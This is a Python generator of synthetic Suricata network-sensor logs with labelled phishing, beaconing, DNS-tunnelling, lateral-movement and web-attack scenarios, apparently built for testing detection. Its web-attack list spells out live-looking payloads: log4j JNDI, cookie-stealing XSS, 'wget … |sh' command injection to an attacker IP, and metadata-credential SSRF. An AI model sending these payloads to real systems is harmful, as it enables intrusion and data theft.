"""Suricata's EVE events (flows, names, HTTP, TLS, alerts, files, SMB, SSH) of a company's network.

Daily work: TLS, flows, servers, a scanner that is allowed, names, updates, alerts that are none, files, administrators. Attacks: a
phishing page, beacons, names as a channel, generated names, a scan, movement by SMB, known holes, guessed SSH passwords, data sent out.
It is not training material: it was written by a hand that did not know the training scenarios, and its events are not looked at by
whoever decides on rules, scenarios or features.
"""
from __future__ import annotations

import base64
from typing import Optional

from .people import CRAWLERS, browsers_until
from .site import Site, epoch, utc

START = epoch(2023, 5, 15)
DAYS = 4


def stamp(at: float):
    return utc(at).strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000"


DC = "10.3.1.5"
FS = "10.3.1.8"
WEBS = "10.3.5.20"
MAIL = "10.3.5.25"
SQL = "10.3.1.9"
PROXY = "10.3.1.70"
ADMINISTRATOR = "10.3.11.13"
SCANNER = "10.3.1.99"
NAMES = ["outlook.office365.com", "www.google.com", "login.microsoftonline.com", "e4478.a.akamaiedge.net", "wpad.corp.local",
         "_ldap._tcp.dc._msdcs.corp.local", "isatap.corp.local", "teams.events.data.microsoft.com", "connectivity-check.ubuntu.com",
         "ntp.ubuntu.com", "clients4.google.com", "play.googleapis.com", "d1a3f4spazzrp4.cloudfront.net", "vortex.data.microsoft.com",
         "api.segment.io", "gateway.icloud.com", "db._dns-sd._udp.0.10.3.10.in-addr.arpa", "zen.spamhaus.org", "stats.wp.com"]
AGENTS = browsers_until(120)
FALSE_ALARMS = [(2013504, "ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management", "Not Suspicious Traffic",
                 3), (2027390, "ET USER_AGENTS Microsoft Device Metadata Retrieval Client User-Agent", "Unknown Traffic", 3),
                (2210044, "SURICATA STREAM Packet with invalid timestamp", "Generic Protocol Command Decode", 3),
                (2210020, "SURICATA STREAM ESTABLISHED packet out of window", "Generic Protocol Command Decode", 3),
                (2027865, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2),
                (2022973, "ET INFO Windows OS Submitting USB Metadata to Microsoft", "Misc activity", 3),
                (2402000, "ET DROP Dshield Block Listed Source group 1", "Misc Attack", 2),
                (2403342, "ET CINS Active Threat Intelligence Poor Reputation IP group 43", "Misc Attack", 2),
                (2016149, "ET INFO Session Traversal Utilities for NAT (STUN Binding Request)", "Attempted User Privilege Gain", 1),
                (2027397, "ET POLICY Spotify P2P Client", "Not Suspicious Traffic", 3),
                (2221010, "SURICATA HTTP unable to match response to request", "Generic Protocol Command Decode", 3),
                (2031502, "ET INFO Request to Hidden Environment File - Inbound", "Misc activity", 3)]


def day_hour(day, hour):
    return START + day * 86400 + hour * 3600


CONTROL = ["185.225.73.238", "79.137.202.92", "45.61.137.90"]
BEACON_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Safari/537.36"
WEB_ATTACKS = ["/?x=${jndi:ldap://45.61.137.90:1389/o=reference}",
               "/produkter?id=12%27%20AND%20(SELECT%202*(IF((SELECT%20*%20FROM%20(SELECT%20CONCAT(0x71,1))s),1,1)))--%20-",
               "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
               "/sok?q=%22%3E%3Csvg%20onload%3Dfetch(%27//45.61.137.90/%27%2bdocument.cookie)%3E",
               "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/wp-content/uploads/2023/05/c.php?e=cat%20/etc/passwd",
               "/produkter?id=-1+union+all+select+1,load_file(0x2f6574632f706173737764),3", "/../../../../../../etc/shadow",
               "/xmlrpc.php", "/api/cart?item=1;wget%20http://45.61.137.90/x.sh%20-O-|sh", "/.git/config",
               "/boaform/admin/formLogin?username=ec8&psd=ec8", "/wp-json/wp/v2/users/",
               "/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
               "/index.php?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/"]


class SuricataEve(Site):
    """Suricata's events of a company."""

    name = "suricata_eve"
    host = "sensor-01"
    sourcetype = "suricata"
    seed = 2020

    def build(self) -> None:
        self.prepare()
        self.connections()
        self.names()
        self.web()
        self.alerts()
        self.phishing_and_beacons()
        self.names_as_channel()
        self.movement()
        self.known_holes()
        self.ssh()
        self.data_out()
        self.thin(attacks=0.7)

    def base_event(self, at: float, kind, source, source_port, destination, port, protocol: str = "TCP", application=None):
        record = {"timestamp": stamp(at), "flow_id": self.rng.randint(10 ** 14, 2 * 10 ** 15),
                  "in_iface": self.choice(["ens5", "ens6"]), "event_type": kind, "src_ip": source, "src_port": source_port,
                  "dest_ip": destination, "dest_port": port, "proto": protocol}
        return record

    def flow(self, at: float, source, destination, port, protocol: str = "TCP", application=None, sizes=None, age=None, state=None,
             reason=None, alerted: bool = False, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
             source_port=None) -> None:
        record = self.base_event(at, "flow", source, source_port or self.rng.randint(32768, 65000), destination, port, protocol)
        sent, received = sizes or (int(self.rng.lognormvariate(7.3, 1.2)), int(self.rng.lognormvariate(8.7, 1.8)))
        age = age if age is not None else int(self.rng.lognormvariate(1.8, 1.7))
        if application:
            record["app_proto"] = application
        state_of = state or ("closed" if protocol == "TCP" else "established")
        record["flow"] = {"pkts_toserver": max(1, sent // 350), "pkts_toclient": received // 900 + (1 if received else 0),
                          "bytes_toserver": sent, "bytes_toclient": received, "start": stamp(at - age - self.rng.random()),
                          "end": stamp(at), "age": age, "state": state_of, "reason": reason or ("timeout" if protocol != "TCP"
            or self.rng.random() < 0.8 else "shutdown"), "alerted": alerted}
        if protocol == "TCP":
            record["tcp"] = {"tcp_flags": "1b" if received else "02", "tcp_flags_ts": "1b" if received else "02",
                             "tcp_flags_tc": "1b" if received else "00", "syn": True,
                             **({"fin": True, "psh": True, "ack": True, "state": "closed"} if received and state_of == "closed"
                                else {"state": "syn_sent" if not received else "established"})}
        self.add(at, record, label, group, technique)

    def dns(self, at: float, source, destination, query, query_type: str = "A", ans=None, rcode=None, label: int = 0,
            group: Optional[str] = None, technique: Optional[str] = None) -> None:
        record = self.base_event(at, "dns", source, self.rng.randint(32768, 65000), destination, 53, "UDP")
        number = self.rng.randint(1, 65535)
        if ans is None and rcode is None:
            record["dns"] = {"type": "query", "id": number, "rrname": query, "rrtype": query_type, "tx_id": 0, "opcode": 0}
        else:
            record["dns"] = {"version": 2, "type": "answer", "id": number, "flags": "8180" if not rcode else "8183", "qr": True,
                             "rd": True, "ra": True, "opcode": 0, "rrname": query, "rrtype": query_type, "rcode": rcode or "NOERROR"}
            if ans:
                record["dns"]["answers"] = [{"rrname": query, "rrtype": query_type, "ttl": self.rng.choice([5, 30, 60, 300, 299, 3600]),
                                             "rdata": answer} for answer in ans]
                record["dns"]["grouped"] = {query_type: ans}
        self.add(at, record, label, group, technique)

    def http(self, at: float, source, destination, port, host: str, url: str, agent: str, method: str = "GET", status: int = 200,
             content_type: str = "text/html", length=None, referrer=None, label: int = 0, group: Optional[str] = None,
             technique: Optional[str] = None) -> None:
        record = self.base_event(at, "http", source, self.rng.randint(32768, 65000), destination, port)
        record["tx_id"] = 0
        record["http"] = {"hostname": host, "url": url}
        if agent:
            record["http"]["http_user_agent"] = agent
        if content_type:
            record["http"]["http_content_type"] = content_type
        if referrer:
            record["http"]["http_refer"] = referrer
        record["http"].update({"http_method": method, "protocol": "HTTP/1.1", "status": status, "length": length if length is not None
                               else int(self.rng.lognormvariate(8, 1.6))})
        self.add(at, record, label, group, technique)

    def tls(self, at: float, source, destination, sni, subject, issuer, version: str = "TLS 1.2", ja3=None, port: int = 443, label: int = 0,
            group: Optional[str] = None, technique: Optional[str] = None) -> None:
        record = self.base_event(at, "tls", source, self.rng.randint(32768, 65000), destination, port)
        fields = {}
        if version != "TLSv1.3" and subject:
            fields = {"subject": subject, "issuerdn": issuer, "serial": ":".join(self.hex_upper(2)
                for _ in range(self.choice([10, 16, 18]))), "fingerprint": ":".join(self.hex(2) for _ in range(20))}
        if sni:
            fields["sni"] = sni
        fields["version"] = version
        if fields.get("subject"):
            fields["notbefore"] = stamp(START - self.rng.randint(1, 80) * 86400)[:19]
            fields["notafter"] = stamp(START + self.rng.randint(9, 300) * 86400)[:19]
        fields["ja3"] = {"hash": ja3 or self.choice(self.client_prints),
                         "string": "771,4865-4866-4867-49195,0-23-65281-10-11,29-23-24,0"}
        fields["ja3s"] = {"hash": self.choice(self.server_prints), "string": "771,49199,65281-11-16"}
        record["tls"] = fields
        self.add(at, record, label, group, technique)

    def alert(self, at: float, source, source_port, destination, port, sid, signature, category, severity, extra=None, label: int = 0,
              group: Optional[str] = None, technique: Optional[str] = None, protocol: str = "TCP", action: str = "allowed", application=None,
              rev=None) -> None:
        record = self.base_event(at, "alert", source, source_port, destination, port, protocol)
        record["alert"] = {"action": action, "gid": 1, "signature_id": sid, "rev": rev or self.rng.randint(1, 9),
                           "signature": signature, "category": category, "severity": severity}
        if sid > 2020000:
            record["alert"]["metadata"] = {"created_at": ["2019_07_26"], "updated_at": [f"2022_{self.rng.randint(1, 12):02}_11"]}
        record.update(extra or {})
        if application:
            record["app_proto"] = application
        record["flow"] = {"pkts_toserver": self.rng.randint(1, 12), "pkts_toclient": self.rng.randint(0, 14),
                          "bytes_toserver": self.rng.randint(70, 3000), "bytes_toclient": self.rng.randint(0, 9000),
                          "start": stamp(at - self.rng.random() * 3)}
        self.add(at, record, label, group, technique)

    def prepare(self) -> None:
        """Who and what is there."""
        self.workstations = [f"10.3.{self.rng.choice([10, 11])}.{self.rng.randint(20, 240)}" for _ in range(40)]
        self.client_prints = [self.hex(32) for _ in range(9)]
        self.server_prints = [self.hex(32) for _ in range(9)]
        self.sites = [("outlook.office365.com", "CN=outlook.com", "C=US, O=DigiCert Inc, CN=DigiCert Cloud Services CA-1", "52.97"),
                      ("www.google.com", "CN=www.google.com", "C=US, O=Google Trust Services LLC, CN=GTS CA 1C3", "142.250"),
                      ("slack.com", "CN=slack.com", "C=US, O=Let's Encrypt, CN=R3", "3.120"),
                      ("www.nrk.no", "CN=*.nrk.no", "C=US, O=Let's Encrypt, CN=R3", "23.55"),
                      ("github.com", "C=US, ST=California, L=San Francisco, O=GitHub, Inc., CN=github.com",
                       "C=US, O=DigiCert Inc, CN=DigiCert TLS Hybrid ECC SHA384 2020 CA1", "140.82"),
                      ("settings-win.data.microsoft.com",
                       "C=US, ST=WA, L=Redmond, O=Microsoft, OU=WSE, CN=settings-win.data.microsoft.com",
                       "C=US, ST=Washington, L=Redmond, O=Microsoft Corporation, CN=Microsoft Secure Server CA 2011", "51.104"),
                      ("i.ytimg.com", None, None, "142.251"), ("web.whatsapp.com", None, None, "157.240"),
                      ("d3.shared.global.fastly.net", "CN=*.fastly.net",
                       "C=BE, O=GlobalSign nv-sa, CN=GlobalSign Atlas R3 DV TLS CA 2022 Q4", "151.101"),
                      ("nas.corp.local", "CN=synology, O=Synology Inc., C=TW", "C=TW, O=Synology Inc., CN=Synology Inc. CA", "10.3.1"),
                      ("api.dropboxapi.com", "CN=*.dropboxapi.com", "C=US, O=DigiCert Inc, CN=DigiCert TLS RSA SHA256 2020 CA1",
                       "162.125"), ("printer", f"CN=HP{self.hex_upper(6)}", f"CN=HP{self.hex_upper(6)}", "10.3.10")]
        self.site_addresses = {site[0]: [self.address(site[3]) for _ in range(3)] for site in self.sites}

    def connections(self) -> None:
        """TLS and flows."""
        for _ in range(300):
            at = self.moment(START, DAYS)
            site = self.choice(self.sites)
            self.tls(at, self.choice(self.workstations), self.choice(self.site_addresses[site[0]]), site[0] if site[0] != "printer"
                     else None, site[1], site[2], self.weighted({"TLS 1.2": 4, "TLS 1.3": 5, "TLSv1": 0.2}) if site[1] is None
                     or self.rng.random() < 0.6 else "TLS 1.2")
        for _ in range(360):
            at = self.moment(START, DAYS)
            site = self.choice(self.sites)
            dice = self.rng.random()
            self.flow(at, self.choice(self.workstations), self.choice(self.site_addresses[site[0]]), 443 if dice < 0.85 else 80,
                      self.weighted({"TCP": 8, "UDP": 1}) if dice < 0.85 else "TCP", self.weighted({"tls": 9, "failed": 1, "http": 1}),
                      sizes=None if self.rng.random() < 0.95 else (int(self.rng.lognormvariate(15, 1.5)),
                int(self.rng.lognormvariate(11, 1))))
        for _ in range(150):
            at = self.moment(START, DAYS)
            dice = self.rng.choice([(DC, 88, "krb5"), (DC, 389, "failed"), (FS, 445, "smb"), (SQL, 1433, "failed"), (DC, 135, "dcerpc"),
                                    (PROXY, 3128, "http"), (DC, 53, "dns"), (FS, 139, "failed")])
            self.flow(at, self.choice(self.workstations), dice[0], dice[1], "UDP" if dice[1] == 53 else "TCP", dice[2])
        for _ in range(40):
            at = self.moment(START, DAYS)
            dice = self.rng.choice([(DC, 3389, "rdp"), (FS, 445, "smb"), (WEBS, 22, "ssh"), (SQL, 3389, "rdp"), (DC, 5985, "http"),
                                    (MAIL, 22, "ssh")])
            self.flow(at, ADMINISTRATOR, dice[0], dice[1], "TCP", dice[2], sizes=(int(self.rng.lognormvariate(11, 1.4)),
                int(self.rng.lognormvariate(12, 1.4))), age=self.rng.randint(30, 9000))
        for _ in range(40):
            at = START + self.rng.randrange(DAYS) * 86400 + 3600 * 3 + self.rng.random() * 1200
            self.flow(at, SCANNER, self.choice(self.workstations + [FS, SQL, WEBS]),
                      self.rng.choice([22, 80, 139, 445, 3389, 161, 5900, 8080]), "TCP", "failed",
                      sizes=(self.rng.randint(60, 400), self.rng.randint(0, 300)), age=self.rng.choice([0, 0, 1, 3]),
                      state=self.choice(["closed", "new"]))
        for _ in range(110):
            at = START + self.rng.random() * DAYS * 86400
            self.flow(at, self.address(), self.choice([WEBS, MAIL]),
                      self.rng.choice([443, 443, 25, 80, 23, 8080, 3389, self.rng.randint(1, 65000)]), "TCP", None,
                      sizes=(self.rng.choice([60, 74, 120]), self.rng.choice([0, 54, 60])), age=0, state="new")

    def names(self) -> None:
        """Names."""
        for _ in range(330):
            at = self.moment(START, DAYS)
            query = self.weighted([(self.choice(NAMES), 9),
                                   (f"{'.'.join(str(self.rng.randint(1, 254)) for _ in range(4))}.zen.spamhaus.org", 0.6),
                                   (f"{self.rng.randint(1, 254)}.{self.rng.randint(1, 12)}.3.10.in-addr.arpa", 1),
                                   (f"{self.hex(16)}.{self.choice(['g', 'a'])}.akamaihd.net", 0.5),
                                   (f"{self.token(10).lower()}.corp.local", 0.4), (f"{self.token(32).lower()}.amazonses.com", 0.2)])
            query_type = "PTR" if "arpa" in query else self.weighted({"A": 7, "AAAA": 3, "HTTPS": 1, "TXT": 0.3, "SRV": 0.3})
            dice = self.rng.random()
            self.dns(at, self.choice(self.workstations + [MAIL]), DC, query, query_type) if dice < 0.55 else self.dns(at,
                self.choice(self.workstations), DC, query, query_type, [self.address()] if query_type == "A"
                else [f"2a00:1450:400f:80{self.hex(1)}::2004"] if query_type == "AAAA" else None, None if query_type in ("A", "AAAA")
                         else "NXDOMAIN")

    def web(self) -> None:
        """HTTP."""
        for _ in range(260):
            at = self.moment(START, DAYS)
            dice = self.rng.randrange(8)
            client = self.choice(self.workstations)
            if dice == 0:
                self.http(at, client, self.address("8.247"), 80, "ctldl.windowsupdate.com",
                          f"/msdownload/update/v3/static/trustedr/en/disallowedcertstl.cab?{self.hex(16)}", "Microsoft-CryptoAPI/10.0",
                          content_type="application/vnd.ms-cab-compressed", status=self.choice([200, 304]))
            elif dice == 1:
                self.http(at, client, self.address("93.184"), 80, "ocsp.digicert.com",
                          f"/MFEwTzBNMEswSTAJBgUrDgMCGgUABBS{self.token(54)}%3D", "Microsoft-CryptoAPI/10.0",
                          content_type="application/ocsp-response", length=471)
            elif dice == 2:
                self.http(at, client, self.address("91.189"), 80, "archive.ubuntu.com",
                          f"/ubuntu/pool/main/{self.choice('abglopsx')}/{self.choice(['libxml2', 'openssl', 'vim', 'curl', 'libssl3'])}_"
                          f"{self.rng.randint(1, 9)}.{self.rng.randint(0, 30)}_amd64.deb", "Debian APT-HTTP/1.3 (2.4.8)",
                          content_type="application/vnd.debian.binary-package")
            elif dice == 3:
                self.http(at, self.address(), WEBS, 80, "www.fjordbygg.no",
                          self.choice(["/", f"/produkter?id={self.rng.randint(1, 300)}",
                                       f"/sok?q={self.choice(['betong', 'vindu+o%27hara', 'select+panel', 'dør'])}", "/wp-login.php",
                                       "/robots.txt", "/css/site.css", "/kontakt", f"/api/cart?item={self.rng.randint(1, 999)}&qty=2",
                                       f"/wp-cron.php?doing_wp_cron={at:f}"]), self.choice(AGENTS + CRAWLERS[:6]),
                          self.weighted({"GET": 8, "POST": 1, "HEAD": 0.5}), self.weighted({200: 8, 301: 1, 404: 1, 500: 0.1}))
            elif dice == 4:
                self.http(at, client, self.address("10.3.10"), 80, "10.3.10.200", "/hp/device/DeviceStatus/Index", self.choice(AGENTS),
                          status=self.choice([200, 401]))
            elif dice == 5:
                self.http(at, SCANNER, self.choice([WEBS, FS, "10.3.10.200"]), 80, self.choice([WEBS, FS]),
                          self.choice([f"/nessus{self.digits(6)}.html", "/", "/phpinfo.php", "/cgi-bin/test.cgi",
                                       "/../../../../etc/passwd", "/.git/HEAD", "/login?user=%3Cscript%3Ealert(1)%3C/script%3E"]),
                          "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)", status=self.choice([404, 400, 403]))
            elif dice == 6:
                self.http(at, "10.3.1.80", WEBS, 80, WEBS, "/health", "check_http/v2.3.3 (nagios-plugins 2.3.3)",
                          content_type="text/plain", length=2)
            else:
                self.http(at, client, self.address(), 80,
                          self.choice(["detectportal.firefox.com", "www.msftconnecttest.com", "captive.apple.com",
                                       "au.download.windowsupdate.com", "edgedl.me.gvt1.com", "ads.yieldlab.net"]),
                          self.choice(["/canonical.html", "/connecttest.txt", "/hotspot-detect.html",
                                       f"/edgedl/release2/chrome_component/{self.token(27).lower()}_{self.rng.randint(100, 9999)}/{self.token(20)}.crx3",
                                       f"/d/{self.digits(7)}?ts={int(at)}"]),
                          self.choice(AGENTS + ["Microsoft NCSI", "Microsoft BITS/7.8"]))

    def alerts(self) -> None:
        """Alerts that are none; files; SMB."""
        for _ in range(150):
            at = self.moment(START, DAYS)
            rule = self.choice(FALSE_ALARMS[:-1])
            inb = "DROP" in rule[1] or "CINS" in rule[1]
            self.alert(at, self.address() if inb else self.choice(self.workstations), self.rng.randint(1025, 65000),
                       self.choice([WEBS, MAIL]) if inb else self.address(), self.choice([22, 23, 3389, 5060, 8080, 445]) if inb
                       else self.choice([80, 443, 53, 3478]), *rule)
        for _ in range(60):
            at = self.moment(START, DAYS)
            record = self.base_event(at, "fileinfo", self.address(), 80, self.choice(self.workstations), self.rng.randint(32768, 65000))
            file_name = self.choice([
                                     f"/msdownload/update/software/defu/2023/05/am_delta_patch_1.389.{self.rng.randint(100, 999)}.0_{self.hex(40)}"
                                     ".exe", "/canonical.html", f"/filestreamingservice/files/{self.uuid()}", "/images/banner.jpg",
                                     "/docs/katalog_2023.pdf", "/putty.exe"])
            record["http"] = {"hostname": self.choice(["au.download.windowsupdate.com", "www.fjordbygg.no", "the.earth.li"]),
                              "url": file_name, "http_user_agent": self.choice(AGENTS + ["Microsoft BITS/7.8"]), "http_method": "GET",
                              "protocol": "HTTP/1.1", "status": self.choice([200, 206]), "length": self.rng.randint(90, 900000)}
            record["app_proto"] = "http"
            record["fileinfo"] = {"filename": file_name, "sid": [],
                                  "magic": self.choice(["PE32 executable (GUI) Intel 80386, for MS Windows",
                "HTML document, ASCII text", "JPEG image data", "PDF document, version 1.7"]), "gaps": False, "state": "CLOSED",
                                  "md5": self.hex(32), "sha256": self.hex(64), "stored": False,
                                  "size": self.rng.randint(90, 9 * 10 ** 6), "tx_id": self.rng.randint(0, 4)}
            self.add(at, record)
        for _ in range(40):
            at = self.moment(START, DAYS)
            record = self.base_event(at, "smb", self.choice(self.workstations), self.rng.randint(49152, 65000), FS, 445)
            record["smb"] = {"id": self.rng.randint(1, 90), "dialect": "3.11",
                             "command": self.choice(["SMB2_COMMAND_CREATE", "SMB2_COMMAND_TREE_CONNECT", "SMB2_COMMAND_SESSION_SETUP",
                "SMB2_COMMAND_NEGOTIATE_PROTOCOL"]), "status": self.weighted({"STATUS_SUCCESS": 9, "STATUS_OBJECT_NAME_NOT_FOUND": 2,
                "STATUS_ACCESS_DENIED": 0.5, "STATUS_LOGON_FAILURE": 0.3}), "status_code": "0x0",
                             "session_id": self.rng.randint(10 ** 10, 10 ** 14), "tree_id": self.rng.randint(0, 9),
                             "filename": self.choice([r"felles\2023\budsjett.xlsx", r"profiles\desktop.ini", "<share_root>",
                f"prosjekt\\tegning_{self.rng.randint(1, 99)}.dwg"])}
            self.add(at, record)

    def phishing_and_beacons(self) -> None:
        """A phishing page, and beacons."""
        self.victim = self.workstations[4]
        self.second_victim = self.workstations[21]
        self.dns(day_hour(0, 9.9), self.victim, DC, "faktura-visma-portal.com", label=1, group="phish", technique="T1566.002")
        self.http(day_hour(0, 9.91), self.victim, CONTROL[1], 80, "faktura-visma-portal.com", f"/dok/F-{self.digits(6)}.zip",
                  BEACON_AGENT, content_type="application/zip", length=188213, label=1, group="phish", technique="T1204.002")
        self.alert(day_hour(0, 9.92), CONTROL[1], 80, self.victim, 51222, 2018959, "ET POLICY PE EXE or DLL Windows file download HTTP",
                   "Potential Corporate Privacy Violation", 1, label=1, group="phish", technique="T1105", application="http")
        for number in range(44):
            at = day_hour(0, 10) + number * self.rng.uniform(1500, 6200)
            pick = self.choice([self.victim, self.second_victim])
            m = self.rng.randrange(4)
            if m == 0:
                self.http(at, pick, CONTROL[0], 80, self.choice([CONTROL[0], "cdn.jsclients-static.com"]),
                          self.choice(["/activity", f"/submit.php?id={self.digits(9)}", "/dpixel", "/g.pixel",
                                       "/jquery-3.3.2.slim.min.js", "/IE9CompatViewList.xml", f"/{self.token(4)}"]),
                          self.choice([BEACON_AGENT,
                                       "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0; MDDCJS)"]),
                          self.weighted({"GET": 5, "POST": 2}),
                          content_type=self.choice(["application/octet-stream", "text/html", None]),
                          length=self.choice([0, 0, 48, self.rng.randint(90, 300000)]), label=1, group="c2", technique="T1071.001")
            elif m == 1:
                self.tls(at, pick, CONTROL[1], self.choice([None, "api.update-checker.net", "cdn.jsclients-static.com"]),
                         *self.choice([("CN=api.update-checker.net", "C=US, O=Let's Encrypt, CN=R3"),
                                       ("C=US, ST=Some-State, O=Internet Widgits Pty Ltd",
                                        "C=US, ST=Some-State, O=Internet Widgits Pty Ltd"),
                                       ("C=, ST=, L=, O=, OU=, CN=", "C=, ST=, L=, O=, OU=, CN="), ("CN=localhost", "CN=localhost")]),
                         "TLS 1.2", "a0e9f5d64349fb13191bc781f81f42e1" if self.rng.random() < 0.6 else self.choice(self.client_prints),
                         port=self.choice([443, 443, 8443, 50050]), label=1, group="c2", technique="T1573")
            elif m == 2:
                self.flow(at, pick, CONTROL[self.choice([0, 1])], self.choice([443, 80, 8443]), "TCP",
                          self.choice(["tls", "http", "failed"]), sizes=(self.rng.randint(1400, 1700), self.rng.randint(2500, 3100)),
                          age=self.rng.choice([0, 0, 1, 60]), label=1, group="c2", technique="T1071.001")
            else:
                self.alert(at, pick, self.rng.randint(49152, 65000), CONTROL[0], 80,
                           *self.choice([(2033658, "ET MALWARE Cobalt Strike Beacon Observed",
                                          "Malware Command and Control Activity Detected", 1),
                                         (2028765, "ET JA3 Hash - [Abuse.ch] Possible Dridex", "Unknown Traffic", 3),
                                         (2035442, "ET HUNTING Suspicious Empty SSL Certificate - Observed in Cobalt Strike",
                                          "Unknown Traffic", 3), (2016141, "ET INFO Executable Download from dotted-quad Host",
                    "A Network Trojan was detected", 1)]), label=1, group="c2", technique="T1071.001")

    def names_as_channel(self) -> None:
        """Names as a channel, generated names."""
        for number in range(40):
            at = day_hour(1, 12) + number * self.rng.uniform(1, 900)
            zone = "ns.cloudmetrics-api.org"
            if number % 4:
                self.dns(at, self.second_victim, DC, self.weighted([(f"{self.hex(self.choice([30, 50, 62]))}.{zone}", 3),
                    (f"{self.token(58).lower()}.{self.token(40).lower()}.{zone}", 2), (f"{self.hex(8)}.{self.hex(4)}.{zone}", 1)]),
                         self.weighted({"TXT": 3, "A": 2, "CNAME": 1, "MX": 1, "NULL": 0.5}), label=1, group="dns_tunnel",
                         technique="T1071.004")
            else:
                self.dns(at, self.second_victim, DC, f"{self.hex(20)}.{zone}", "TXT",
                         [base64.b64encode(bytes(self.rng.getrandbits(8) for _ in range(90))).decode()], label=1, group="dns_tunnel",
                         technique="T1071.004")
        for number in range(26):
            self.dns(day_hour(2, 1) + number * self.rng.uniform(1, 200), self.victim, DC,
                     "".join(self.choice("abcdefghijklmnopqrstuvwxy") for _ in range(self.rng.randint(10, 16))) + self.choice([".com",
                ".net", ".ru", ".org", ".pw"]), "A", rcode="NXDOMAIN" if number % 3 else None, label=1, group="dga",
                     technique="T1568.002")

    def movement(self) -> None:
        """A scan, and movement by SMB."""
        for number in range(42):
            at = day_hour(1, 14) + number * self.rng.uniform(0.1, 9)
            self.flow(at, self.victim, self.choice(self.workstations + [DC, FS, SQL, WEBS]),
                      self.rng.choice([445, 3389, 22, 135, 5985, 80, 1433, 8080]), "TCP", self.choice([None, "failed", "smb"]),
                      sizes=(self.rng.choice([60, 120, 74, 600]), self.rng.choice([0, 0, 54, 60, 700])), age=0,
                      state=self.choice(["new", "closed"]), label=1, group="scan", technique="T1046")
        for number in range(26):
            at = day_hour(2, 3) + number * self.rng.uniform(20, 900)
            m = self.rng.randrange(3)
            if m == 0:
                record = self.base_event(at, "smb", self.victim, self.rng.randint(49152, 65000), self.choice([FS, DC, SQL]), 445)
                record["smb"] = {"id": self.rng.randint(1, 90), "dialect": self.choice(["3.11", "2.10", "3.00"]),
                                 "command": self.choice(["SMB2_COMMAND_CREATE", "SMB2_COMMAND_TREE_CONNECT",
                    "SMB2_COMMAND_SESSION_SETUP", "SMB2_COMMAND_WRITE"]),
                                 "status": self.weighted({"STATUS_SUCCESS": 6, "STATUS_LOGON_FAILURE": 3, "STATUS_ACCESS_DENIED": 2}),
                                 "status_code": "0x0", "session_id": self.rng.randint(10 ** 10, 10 ** 14),
                                 "tree_id": self.rng.randint(0, 9),
                                 "filename": self.choice(["svcctl", "PSEXESVC.exe", "ADMIN$", f"Windows\\Temp\\{self.token(8)}.tmp",
                    "atsvc", r"Windows\NTDS\ntds.dit", "samr", "lsarpc", r"felles\HOW_TO_DECRYPT.txt",
                    r"SYSVOL\corp.local\Policies\{31B2F340}\Machine\Preferences\Groups\Groups.xml", "__output"])}
                self.add(at, record, 1, "lateral", "T1021.002")
            elif m == 1:
                self.flow(at, self.victim, self.choice([FS, DC, SQL]), self.choice([445, 135, 5985, 3389, 49668]), "TCP",
                          self.choice(["smb", "dcerpc", "http", "rdp"]), sizes=(int(self.rng.lognormvariate(10, 1.5)),
                    int(self.rng.lognormvariate(10, 1.5))), label=1, group="lateral", technique="T1021")
            else:
                self.alert(at, self.victim, self.rng.randint(49152, 65000), self.choice([DC, FS]), 445,
                           *self.choice([(2025719, "ET POLICY Powershell Activity Over SMB - Likely Lateral Movement",
                                          "Potentially Bad Traffic", 2),
                                         (2027189, "ET RPC DCERPC SVCCTL - Remote Service Control Manager Access",
                                          "Attempted User Privilege Gain", 3),
                                         (2030870,
                                          "ET EXPLOIT Possible Zerologon Phase 1/3 - NetrServerReqChallenge with 0x00 Client Challenge (CVE-2020-1472)",
                                          "Attempted Administrator Privilege Gain", 1),
                                         (2025699, "ET POLICY SMB Executable File Transfer", "Potentially Bad Traffic", 2)]), label=1,
                           group="lateral", technique="T1021.002", application="smb")

    def known_holes(self) -> None:
        """Known holes."""
        for _ in range(48):
            at = START + self.rng.random() * DAYS * 86400
            user = self.choice(WEB_ATTACKS)
            address = self.choice([CONTROL[2], self.address()])
            agent = self.choice(AGENTS[:4] + ["python-requests/2.28.1", "sqlmap/1.7.2#stable (https://sqlmap.org)",
                                              "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
                                              "curl/7.54.0", None])
            if self.rng.random() < 0.7:
                self.http(at, address, WEBS, 80, "www.fjordbygg.no", user, agent, self.weighted({"GET": 7, "POST": 3}),
                          self.weighted({200: 4, 404: 4, 403: 2, 500: 1, 302: 1}), label=1, group="web_attack", technique="T1190")
            else:
                self.alert(at, address, self.rng.randint(1025, 65000), WEBS, 80,
                           *self.choice([(2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
                                          "Attempted Administrator Privilege Gain", 1),
                                         (2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
                                          "Web Application Attack", 1),
                                         (2009714, "ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt",
                                          "Web Application Attack", 1),
                                         (2019232, "ET WEB_SERVER Possible CVE-2014-6271 Attempt in Headers",
                                          "Attempted Administrator Privilege Gain", 1),
                                         (2031502, "ET INFO Request to Hidden Environment File - Inbound", "Misc activity", 3)]),
                           extra={"http": {"hostname": "www.fjordbygg.no", "url": user, "http_method": "GET", "protocol": "HTTP/1.1",
                                           "status": 404, "length": 0}, "tx_id": 0}, label=1, group="web_attack", technique="T1190",
                           application="http")

    def ssh(self) -> None:
        """SSH: guessed passwords, and administrators."""
        for number in range(24):
            at = day_hour(2, 20) + number * self.rng.uniform(2, 60)
            record = self.base_event(at, "ssh", self.choice([CONTROL[2], "103.145.13.77"]), self.rng.randint(1025, 65000), WEBS, 22)
            record["ssh"] = {"client": {"proto_version": "2.0",
                                        "software_version": self.choice(["libssh_0.9.6", "Go", "paramiko_2.11.0", "libssh2_1.10.0"])},
